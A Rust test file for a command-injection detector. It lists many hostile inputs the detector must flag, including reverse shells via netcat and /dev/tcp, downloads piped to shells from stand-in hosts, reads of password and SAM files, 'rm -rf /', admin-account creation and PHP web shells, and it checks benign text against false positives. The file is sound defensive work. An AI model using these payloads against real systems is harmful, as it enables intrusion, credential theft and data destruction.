use super::{vocabulary::*, *};

fn missed<'a>(values: &[&'a str]) -> Vec<&'a str> {
    values.iter().copied().filter(|v| check(v).is_none()).collect()
}

fn matched<'a>(values: &[&'a str]) -> Vec<(&'a str, &'static str)> {
    values
        .iter()
        .filter_map(|v| check(v).map(|m| (*v, m.rule)))
        .collect()
}

#[test]
fn attacks_match() {
    let attacks = [
        "127.0.0.1; cat /etc/passwd",
        "x|id",
        "x;id",
        "a && whoami",
        "$(whoami)",
        "`id`",
        "foo; ls -la",
        "8.8.8.8 | nc 10.0.0.1 4444 -e /bin/sh",
        "x; sleep 10",
        "x & ping -c 5 attacker.example",
        "; /bin/bash -i",
        "a;c'a't /etc/shadow",
        "x;cat${IFS}/etc/passwd",
        "x\nwhoami",
        "| powershell -enc AAAA",
        "& type C:\\windows\\win.ini",
        "() { :; }; /bin/bash -c 'id'",
        "x; curl http://evil.example/x.sh | sh",
        "file.txt; rm -rf /",
        "$(sleep 5)",
        "red shoes; cat /etc/passwd",
        "';id",
        "\"; cat /etc/passwd; \"",
        "a);/usr/bin/id|",
        "|echo abc123xyz",
        "';echo vulnerable",
        "x; echo 'vulnerable'",
        "x;c$@at /etc/passwd",
        "x;w$()hoami",
        "x;who$1ami",
        "x & %SYSTEMROOT%\\System32\\cmd.exe /c dir",
        "x; tac /etc/passwd",
        "x| Start-Sleep -s 5",
        "x & findstr /s password *.config",
        "<id",
        "^whoami",
        "<sleep 5\\n",
        "\rid",
        "127.0.0.1\n\rwhoami",
        "CMD=$'cat /etc/passwd';$CMD",
        "FAIL||CMD=$\"id\";$CMD",
        "a=nc&&$a -nlvp 555",
        "<?=`$_GET[0]`?>",
        ";/???/c?t /???/p??s??",
        "x;w^h^o^a^m^i",
        "a;sleep 5;",
        "a;net user;",
    ];
    assert_eq!(missed(&attacks), Vec::<&str>::new());
}

#[test]
fn markdown_tables_are_text() {
    let benign = [
        "| ls | lists files |\n| id | prints the user |",
        "| command | what it does |",
    ];
    assert_eq!(matched(&benign), vec![]);
    assert!(check("|id|").is_some());
    assert!(check("| [ 5 -ne $(echo X | tr -d '\\n' | wc -c) ] || sleep 1 |").is_some());
}

#[test]
fn newline_separators() {
    // `%0a` decodes to a newline before the normalizer hands the value over.
    let attacks = [
        "\nid",
        "\n id \n",
        "\nid\n",
        "\n cat /etc/passwd",
        "127.0.0.1\nwhoami",
        "\\n/usr/bin/id;",
        "a;id\\n",
        "\\nid|",
    ];
    assert_eq!(missed(&attacks), Vec::<&str>::new());
    let benign = [
        "Hi team,\nI ran the installer twice.\nNothing happened.",
        "Dear support\nthe invoice id 4455 is wrong",
        "Steps:\n1. cd /tmp\n2. ls -la",
        "I ran this:\ncat /etc/hosts\nand my entry is missing",
    ];
    assert_eq!(matched(&benign), vec![]);
}

#[test]
fn brace_expansion_and_ifs() {
    let attacks = [
        ";{cat,/etc/passwd}",
        "x|{ls,-la}",
        "$({cat,/etc/passwd})",
        "{cat,/etc/passwd}",
        "x;cat$IFS/etc/passwd",
        "x;cat${IFS}/etc/passwd",
        "x;{sleep,5}",
        "x;{,ifconfig}",
    ];
    assert_eq!(missed(&attacks), Vec::<&str>::new());
    let benign = [
        "I like pets; {cat,dog} are fine",
        "src/*.{js,css}",
        "{\"a\": 1, \"b\": 2}",
    ];
    assert_eq!(matched(&benign), vec![]);
}

#[test]
fn windows_shapes() {
    let attacks = [
        "& dir",
        "x & dir C:\\",
        "| type C:\\Windows\\win.ini",
        "& type %SYSTEMROOT%\\repair\\SAM",
        "x & %COMSPEC% /c whoami",
        "| powershell -nop -w hidden -enc SQBFAFgA",
        "x|powershell.exe -c iex(iwr http://x.example/a.ps1)",
        "& cmd /c whoami",
        "x & cmd.exe /c dir",
        "x & C:\\Windows\\System32\\cmd.exe /c ver",
        "& net user hacker Password1 /ADD",
        "; net localgroup Administrators hacker /ADD",
        "& reg add HKLM\\Software\\x /v y /d z /f",
        "; netsh firewall set opmode disable",
        ";iwr http://example.com/path/file.ps1",
        "ipconfig /all",
        "systeminfo",
        "powershell -enc SQBFAFgA",
        "dir C:\\Users",
        "type C:\\Windows\\repair\\SAM",
        "type %SYSTEMROOT%\\repair\\SYSTEM",
        "net user hacker Password1 /ADD",
        "cmd /c whoami",
    ];
    assert_eq!(missed(&attacks), Vec::<&str>::new());
    let benign = [
        "C:\\Users\\me\\Documents",
        "Tom & Jerry type of humour",
        "R&D net income; type A and B",
        "the net user count & dir structure",
        "My files are in C:\\Program Files\\Example & D:\\backups",
        "net income",
        "type",
        "dir",
    ];
    assert_eq!(matched(&benign), vec![]);
}

#[test]
fn code_that_runs_commands() {
    let attacks = [
        "system('id')",
        ";system('cat /etc/passwd')",
        "exec(\"whoami\")",
        "passthru('ls -la')",
        "shell_exec('sleep 5');",
        "popen('id', 'r')",
        "eval('ls')",
        "<?php system(\"cat /etc/passwd\");?>",
        "<?php system($_GET['cmd']); ?>",
        "include($_GET['page'])",
        "Runtime.getRuntime().exec(\"cmd.exe /c dir\")",
        "require('child_process').exec('whoami')",
        "__import__('os').system('id')",
        "subprocess.Popen(['cat', '/etc/passwd'])",
        "pcntl_exec('/bin/sh')",
        "${@print(md5(x))}",
        "{${phpinfo()}}",
        ";phpinfo()",
        "phpinfo()",
        "x & echo \"<?php system($_GET['cmd']); ?>\" > cmd.php",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "echo ABC$((7+7))$(echo ABC)ABC",
        "$[2+2]",
    ];
    assert_eq!(missed(&attacks), Vec::<&str>::new());
    let benign = [
        "os.system(cmd)",
        "exec(code, globals)",
        "os.system('more ' + path)",
        "eval(\"1 + 1\")",
        "The system('...') call runs a shell",
        "Call exec() with a string of code",
        "include('header.php');",
        "${HOME}/bin and ${x:-default}",
        "Total: {{ price * qty }}",
        "echo $((count + 1))",
        "{{person.name}}",
        "bash redirects /dev/tcp/host/port to a socket",
        "`${formatDate(d)}` in a template literal",
    ];
    assert_eq!(matched(&benign), vec![]);
}

#[test]
fn whole_command_lines() {
    let attacks = [
        "whoami",
        "uname -a",
        "netstat -an",
        "ifconfig",
        "cat /etc/passwd",
        "cat /etc/hosts",
        "sleep 5",
        "nc -lvvp 4444 -e /bin/sh",
        "nc -lvvp 4447 -e /bin/sh;",
        "perl -e 'print \"X\"x1024'",
        "ls -l /etc/",
        "' whoami",
        "\" whoami",
        "\\n/bin/ls -al\\n",
        "'\\n/bin/ls -al\\n'",
    ];
    assert_eq!(missed(&attacks), Vec::<&str>::new());
    let benign = [
        "cat food",
        "sleep at night",
        "sleep 8 hours",
        "less is more",
        "whoami? just a user",
        "cat /etc/hosts shows nothing",
        "ls -la",
        "head office",
        "tail /var/log/app.log",
        "perl",
        "python3 manage.py runserver",
        "powershell",
        "uname output attached",
        "type C:\\Users\\me\\notes.txt",
    ];
    assert_eq!(matched(&benign), vec![]);
}

#[test]
fn markdown_and_snippets_are_text() {
    let benign = [
        "```bash\ngit push origin main\n```",
        "```sh\n$ npm install && npm run build\n```",
        "I ran this:\n```\ncat /etc/passwd | grep root; id\n```\nAny idea why?",
        "```rust\nfn main() {\n    println!(\"hi\");\n}\n```",
        "fn main() { println!(\"{}\", x); }",
        "Use `ls -la` to list files",
        "`npm install` fails with EACCES",
        "Run `git switch main && git pull` first.",
        "The (`Foo` type) is re-exported; `cat` it",
        "we are `clone`ping the Arc; then `id` it",
        "Returns ``True`` if the path exists; see ``os.stat``.",
        "git switch master && git pull",
        "[ -e $LG ] && rm -f $LG",
        "dpkg -L foo | sed -e 's/x/y/'",
        "if test \"$(id -u)\" != 0; then",
        "basedir=`cd \"${basedir}\" && pwd -P`",
        "basedir=`pwd`",
        "TIMEZONE=\"$(head -n 1 /etc/timezone)\"",
        "#!/bin/sh\nset -e\nrm -rf /var/cache/foo",
        "set -e\n\ncase \"$1\" in\n  purge)\n    rm -rf /var/lib/nginx",
        "cd ~/projects/site; ls -la",
        "curl https://sh.rustup.rs -sSf | sh",
        "echo\nprintf 'done\\n'\necho",
        "I followed the README and ran `[ -d /etc/x ] || mkdir -m 755 /etc/x` — why?",
        "Buy milk; cat food",
        "Tom & Jerry",
        "salt; pepper; echo chamber music",
        "R&D department",
        "I can't sleep at night",
        "Q&A: how do I ping my friend?",
        "fish & chips | beer",
        "price: $(5.00)",
        "ls",
        "rock & roll; id est",
        "AT&T",
        "me & my host family",
        "cats; dogs",
        "terms & conditions; type carefully",
        "https://example.com/?ref=mail&id=5&cat=shoes",
        "r'IsLabel|Ln|Log|LV_Add|LV_Delete'",
        "*)\n    echo \"called with unknown argument\" >&2\n    exit 1\n;;",
        "revert() {\n    printf >&2 'Restoring...'",
        "<dir>old list</dir>",
        "<b>bold</b> & <i>italic</i>",
        "Hi,\r\nthanks for the quick reply.\r\nCheers",
        "price;$5 off",
        "/usr/*/share is not a path",
        "--noheadings | sed -e 's/x$//'",
        "dirent,\nsigset_t,\nstat,",
        "remove)\npc=$(dpkg-query -W x \\\n     | grep -v '^.n' | wc -l)",
        "/usr/local/share/xml/declaration\n/usr/local/share/xml/entities\n/usr/share/doc",
    ];
    assert_eq!(matched(&benign), vec![]);
}

#[test]
fn shellshock_starts_a_value() {
    for v in ["() { :; }; echo x", "() {", "  () { _; } >_[$($())] { id; }", "'() { :;};"] {
        assert_eq!(check(v).map(|m| m.rule), Some("cmdi:shellshock"), "{v}");
    }
    for v in ["fn main() {", "function f() { return 1; }", "x = () => { y }", "f() {}"] {
        assert_eq!(check(v), None, "{v}");
    }
}

#[test]
fn separators_start_only_at_marked_bytes() {
    for c in 0..=255u8 {
        for next in [c, b'(', b'x'] {
            let found = separator(&[c, next], 0) > 0;
            assert!(!found || shell_byte(c), "{c} {next}");
        }
    }
}

#[test]
fn longest_command_is_the_longest() {
    let longest = STRONG.iter().chain(WEAK).map(|c| c.len()).max();
    assert_eq!(longest, Some(LONGEST_COMMAND));
}

#[test]
fn no_panic_on_odd_input() {
    for v in [
        "`", "``", "```", "$(", "{", "{,", "{cat,", ";{", "()", "() ", "(`", "\\", "\\n", "é;é",
        ";é", "`é`", "system(", "system('", "${@", "{${", "$((1+", "/dev/tcp/", "x;{é,/}",
        "%", "%%", "cmd /", "\u{feff};id",
    ] {
        let _ = check(v);
        let _ = may_match_without_separator(v, true, u32::MAX);
    }
}

#[test]
fn the_vocabulary_table_holds_every_word() {
    for w in STRONG {
        assert_eq!(kind(w), Some(Kind::Strong), "{w}");
    }
    for w in WEAK {
        assert_eq!(kind(w), Some(Kind::Weak), "{w}");
    }
    for (c, (_, words)) in bare::CLASSES.iter().enumerate() {
        for w in *words {
            assert_eq!(lookup(w).bare_class(), Some(c), "{w}");
            assert!(w.len() <= LONGEST_COMMAND, "{w}");
        }
    }
    for w in ["if", "fi", "[", "cd", "export"] {
        assert!(lookup(w).is_shell_word(), "{w}");
    }
    for w in ["", "shoes", "price", "catalog", "whoamix", "c"] {
        assert_eq!(lookup(w), Props::default(), "{w}");
    }
}


#[test]
fn a_name_split_off_by_a_semicolon() {
    let name = Hints {
        whole: false,
        name: true,
        code: false,
        redirect: false,
        command_line: true,
    };
    for v in ["cat /etc/passwd", "c$@at /et$@c/pas$@swd", "ls -la /tmp"] {
        assert!(may_be_split_command(v), "{v}");
        assert!(check_in(v, name).is_some(), "{v}");
    }
    for v in ["first name", "type of payment", "cat food", "uname"] {
        // The prefilter marks a name only when it holds a space and starts with a command.
        let marked = v.contains(' ') && may_be_split_command(v);
        let hints = Hints {
            command_line: marked,
            ..name
        };
        assert!(check_in(v, hints).is_none(), "{v}");
    }
}

/// The shapes of commix's payload templates (its separators, techniques and tampers).
#[test]
fn commix_shapes() {
    let attacks = [
        // Its `%1a` separator, and `test`, the value it is typed after.
        "\x1aecho dYmc1i$((357+453))$(echo dYmc1i)dYmc1i",
        "127.0.0.1\x1aid",
        "test;IRH=$(echo \"$(pwd)\");IRH1=${#IRH};if [ 6 -eq $IRH1 ];then sleep 2;fi",
        "test'|[ 15 -ne $(echo j7GWm |tr -d '\\n'|wc -c) ]||sleep 3",
        "test&&python3 -c \"print('x'+str(int(1+2)))\"",
        // The marker echoed around a command's output, without a separator before it.
        "echo RO9wUC$(echo RO9wUC)$(hostname)$(echo RO9wUC)RO9wUC&&",
        "'echo kliht`echo kliht``uname -s``echo kliht`kliht//",
        "''ec''h''o ''p8''i''X$(''ec''h''o ''p8''i''X)$(''id)$(''ec''h''o ''p8''i''X)''p8''i''X",
        // Tampers: empty expansions before each letter, carets.
        ";$@ec$@h$@o x$(($@1+2))",
        "|$@c$@a$@t /$@e$@tc/$@p$@a$@s$@s$@w$@d",
        ";${XYZ}w${XYZ}h${XYZ}o${XYZ}a${XYZ}m${XYZ}i",
        // cmd.exe's loop that runs a command for its output.
        "|for /f \"tokens=*\" %i in ('cmd /c \"set /a (1+2)\"') do @set /p = TAG%iTAGTAG",
        "x&f^o^r /^f \"^t^o^k^e^n^s=*\" %^i ^i^n ('c^md /c \"whoami\"') d^o @^s^e^t /^p = x%^i",
        "for /f \"tokens=*\" %i in ('cmd /c \"dir\"') do @set /p = x%ix;",
        "'for /f \"tokens=*\" %i in ('powershell.exe -InputFormat none write 'a'.length') do if %i==1 cmd /c x",
        // PHP's configuration dump as code.
        "exec(phpinfo())",
        "'.phpinfo().'",
        ")'}phpinfo()'#",
        "\nsystem(phpinfo())}}",
        ".@phpinfo()",
    ];
    assert_eq!(missed(&attacks), Vec::<&str>::new());
    let benign = [
        "test",
        "test; more tests tomorrow",
        "sudo apt-get install linux-headers-$(uname -r)",
        "echo $(echo hello) prints hello",
        "FOO=bar$(date +%s)",
        "for f in *.txt; do echo $f; done",
        "for /f \"tokens=*\" %i in ('dir /b') do echo %i",
        "for /l %x in (1,1,5) do echo %x",
        "Use a for /f loop to read a file",
        "Call phpinfo() to see the loaded modules.",
        "phpinfo() shows the configuration",
        "the phpinfo() page; see also",
        "price: $@ 5",
        "${HOME}/bin/tool --help",
    ];
    assert_eq!(matched(&benign), vec![]);
}
